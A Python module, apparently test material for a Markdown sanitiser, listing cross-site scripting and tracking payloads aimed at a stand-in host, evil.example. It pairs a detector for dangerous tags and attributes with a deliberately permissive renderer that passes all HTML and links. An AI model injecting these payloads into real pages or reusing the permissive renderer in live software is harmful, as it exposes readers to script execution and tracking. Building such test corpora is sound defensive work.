"""Texts that would run a script or tell another site who reads, and what is dangerous in HTML."""

import re
from html import unescape
from html.parser import HTMLParser

from markdown_it import MarkdownIt

MARK = "evil.example"
ATTACKS = [
    '<script>fetch("https://evil.example/a")</script>',
    '<script src="https://evil.example/a.js"></script>',
    '<iframe src="https://evil.example/f"></iframe>',
    '<img src="https://evil.example/t.gif" width="1">',
    "<IMG SRC=x onerror=\"location='https://evil.example'\">",
    "<svg onload=alert(1)></svg>",
    '<a href="javascript:alert(1)">press</a>',
    "<details open ontoggle=alert(1)>x</details>",
    '<style>@import "https://evil.example/s.css"</style>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "![](https://evil.example/t.gif)",
    "![tracked][t]\n\n[t]: https://evil.example/t.gif",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[press](javascript:alert(1))",
    "[press](JaVaScRiPt:alert(1))",
    "[press]( &#106;avascript:alert(1))",
    "[press](\njavascript:alert(1))",
    "[press](<javascript:alert(1)>)",
    "[press][j]\n\n[j]: javascript:alert(1)",
    "[press][j]\n\n[j]:\njavascript:alert(1)",
    "[press](data:text/html,<script>alert(1)</script>)",
    "[press](vbscript:x)",
    "<javascript:alert(1)>",
    "> <script>alert(1)</script>\n\n- <iframe src=x></iframe>",
    "```\nopen fence\n\n<script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
]
_SAFE = re.compile(r"^(?:https?:|mailto:|[/#?.]|[^:]*$)", re.IGNORECASE)
_TAGS = {
    *("script", "iframe", "img", "svg", "object", "embed", "style", "meta", "link", "base", "form", "input"),
    *("video", "audio", "source", "details", "math", "template"),
}


class _Reader(HTMLParser):
    def __init__(self, text: str):
        super().__init__()
        self.found: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag in _TAGS:
            self.found.append(tag)
        for name, value in attrs:
            plain = re.sub(r"[\x00-\x20]", "", unescape(value or ""))
            if name.startswith("on") or (name in ("href", "src") and not _SAFE.match(plain)):
                self.found.append(f"{tag} {name}={value}")


def dangers(html: str) -> list[str]:
    """The elements and attributes that would run a script, load something or lead into a script."""
    return _Reader(html).found


def as_anything_goes(markdown: str) -> str:
    """Markdown as a place shows it that lets through all HTML and every address."""
    parser = MarkdownIt("commonmark", {"html": True})
    parser.validateLink = lambda _address: True
    return parser.render(markdown)
